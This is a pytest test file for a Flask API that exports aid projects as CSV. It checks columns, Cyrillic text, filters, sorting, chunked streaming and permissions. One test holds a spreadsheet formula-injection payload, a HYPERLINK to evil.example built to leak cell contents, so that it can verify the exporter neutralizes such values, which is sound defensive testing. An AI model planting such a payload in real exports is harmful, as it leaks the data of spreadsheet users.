"""GET /projects as CSV: every match, one row each, names next to codes, the list's filters."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.conftest import Account
from tests.exports.sheets import csv_rows
from tests.settings_helpers import replace_settings

CSV = {"Accept": "text/csv"}


def _csv(client: FlaskClient, account: Account, query: str = "") -> list[dict[str, str]]:
    return csv_rows(client.get(f"/api/v1/projects?{query}", headers={**account.headers, **CSV}))


def _json_codes(client: FlaskClient, account: Account, query: str) -> list[str]:
    response = client.get(f"/api/v1/projects?per_page=100&{query}", headers=account.headers)
    assert response.status_code == 200, response.json
    return [p["code"] for p in response.json["items"]]


def test_one_row_per_project_with_names_next_to_codes(
    app: Flask, client: FlaskClient, coordinator: Account, corpus: dict[str, Any]
) -> None:
    response = client.get("/api/v1/projects", headers={**coordinator.headers, **CSV})
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    today = dt.datetime.now(dt.UTC).date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="projects-{today}.csv"'
    )
    rows = csv_rows(response)
    assert len(rows) == len(corpus)
    ccp = next(r for r in rows if r["code"] == corpus["ccp"]["code"])
    assert ccp["countries"] == "AF; IR"
    afghanistan, iran = ccp["country_names"].split("; ")
    assert afghanistan == "Afghanistan" and iran.startswith("Iran")
    assert ccp["themes"] == "border-control; precursor-control"
    assert len(ccp["theme_names"].split("; ")) == 2
    assert ccp["donors"] == "jp-mofa; gb-fcdo"
    assert ccp["donor_names"] == (
        "Ministry of Foreign Affairs of Japan; Foreign, Commonwealth & Development Office"
    )
    assert ccp["implementers"] == "unodc; tj-dca"
    assert ccp["implementer_names"] == (
        "United Nations Office on Drugs and Crime; Drug Control Agency of Tajikistan"
    )
    assert ccp["start_date"] == "2026-01-01" and ccp["end_date"] == ""
    assert ccp["budget_amount"] == "2000000.00" and ccp["budget_currency"] == "USD"
    assert ccp["withdrawn_at"] == ""
    public = app.config["PUBLIC_URL"].rstrip("/")
    assert ccp["url"] == f"{public}/api/v1/projects/{corpus['ccp']['id']}"
    assert ccp["created_at"] == corpus["ccp"]["created_at"][:19] + "Z"
    treat = next(r for r in rows if r["code"] == corpus["treat"]["code"])
    assert treat["budget_amount"] == "300000.50" and treat["status"] == "closed"
    assert list(rows[0]) == [
        "code", "title", "description", "status", "countries", "country_names", "themes",
        "theme_names", "donors", "donor_names", "implementers", "implementer_names",
        "start_date", "end_date", "budget_amount", "budget_currency", "iati_identifier",
        "contact_name", "contact_email", "created_at", "updated_at", "withdrawn_at", "url",
    ]  # fmt: skip


def test_cyrillic_and_line_breaks_survive(
    client: FlaskClient, coordinator: Account, corpus: dict[str, Any]
) -> None:
    rows = _csv(client, coordinator)
    ru = next(r for r in rows if r["code"] == corpus["ru"]["code"])
    assert ru["title"] == "Профилактика наркомании среди молодёжи"
    assert ru["description"] == (
        "Тренинги для школьных психологов в Алматы.\nВторая строка, с запятой."
    )
    assert ru["country_names"] == "Kazakhstan"
    assert ru["budget_amount"] == "" and ru["start_date"] == ""


@pytest.mark.parametrize(
    "query",
    [
        "country=AF",
        "country=KG,KZ",
        "theme=demand-reduction",
        "donor=jp-mofa",
        "implementer=tj-dca",
        "status=closed,pipeline",
        "q=наркомании",
        "q=training",
        "country=TJ&theme=border-control",
        "active_on=2026-03-01",
        "budget_min=1000000&currency=USD",
    ],
)
def test_filters_are_the_lists(
    client: FlaskClient, coordinator: Account, corpus: dict[str, Any], query: str
) -> None:
    expected = _json_codes(client, coordinator, query)
    assert expected, "each filter should match something"
    assert len(expected) < len(corpus) or query == "q=training"
    assert [r["code"] for r in _csv(client, coordinator, query)] == expected


@pytest.mark.parametrize("sort", ["title", "-budget", "start_date,-title", "code"])
def test_sort_is_honoured_and_paging_ignored(
    client: FlaskClient, coordinator: Account, corpus: dict[str, Any], sort: str
) -> None:
    expected = _json_codes(client, coordinator, f"sort={sort}")
    rows = _csv(client, coordinator, f"sort={sort}&page=3&per_page=1")
    assert [r["code"] for r in rows] == expected


def test_more_rows_than_a_chunk(
    app: Flask, client: FlaskClient, coordinator: Account, register: Any
) -> None:
    replace_settings(app, export_chunk_size=4)
    countries = ["AF", "TJ", "KG", "UZ", "KZ"]
    for n in range(25):
        register(
            title=f"Project number {n:02d} on {countries[n % 5]}",
            countries=[countries[n % 5], countries[(n + 1) % 5]],
            budget={"amount": f"{1000 + n}.25", "currency": "USD"},
        )
    expected = _json_codes(client, coordinator, "sort=-budget")
    rows = _csv(client, coordinator, "format=csv&sort=-budget")
    assert [r["code"] for r in rows] == expected and len(rows) == 25
    for row in rows:
        n = int(row["title"].split()[2])
        assert row["budget_amount"] == f"{1000 + n}.25"
        assert row["countries"] == "; ".join(sorted([countries[n % 5], countries[(n + 1) % 5]]))


def test_formulas_are_neutralized_in_text_cells_only(
    client: FlaskClient, coordinator: Account, register: Any, make_org: Any
) -> None:
    make_org("at-evil", "@SUM(1+1)")
    project = register(
        title='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        description="+49 30 1234567 is the office",
        donors=["at-evil"],
        contact={"name": "-Ivanov", "email": "ivanov@example.org"},
        start_date="2025-01-02",
        budget={"amount": "1234.50", "currency": "EUR"},
    )
    (row,) = _csv(client, coordinator)
    assert row["title"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row["description"] == "'+49 30 1234567 is the office"
    assert row["donor_names"] == "'@SUM(1+1)"
    assert row["contact_name"] == "'-Ivanov"
    assert row["contact_email"] == "ivanov@example.org"
    assert row["code"] == project["code"]
    assert row["start_date"] == "2025-01-02" and row["budget_amount"] == "1234.50"


def test_withdrawn_projects_only_for_coordinators_who_ask(
    client: FlaskClient,
    coordinator: Account,
    make_user: Any,
    corpus: dict[str, Any],
) -> None:
    gone = corpus["treat"]
    response = client.delete(
        f"/api/v1/projects/{gone['id']}", headers={**coordinator.headers, "If-Match": gone["_etag"]}
    )
    assert response.status_code == 204
    codes = {r["code"] for r in _csv(client, coordinator)}
    assert gone["code"] not in codes and len(codes) == len(corpus) - 1
    withdrawn = _csv(client, coordinator, "withdrawn=true")
    assert [r["code"] for r in withdrawn] == [gone["code"]]
    assert withdrawn[0]["withdrawn_at"].endswith("Z")
    focal = make_user("focal_point", country="KG")
    refused = client.get("/api/v1/projects?withdrawn=true&format=csv", headers=focal.headers)
    assert refused.status_code == 403
    assert refused.json["error"]["code"] == "forbidden"


def test_bad_filters_are_json_errors_not_broken_csv(
    client: FlaskClient, coordinator: Account, corpus: dict[str, Any]
) -> None:
    for query, field in (
        ("country=ZZ", "country"),
        ("donor=nobody", "donor"),
        ("sort=colour", "sort"),
        ("budget_min=5", "currency"),
    ):
        response = client.get(f"/api/v1/projects?{query}", headers={**coordinator.headers, **CSV})
        assert response.status_code == 422, query
        assert response.mimetype == "application/json"
        assert field in response.json["error"]["details"], response.json
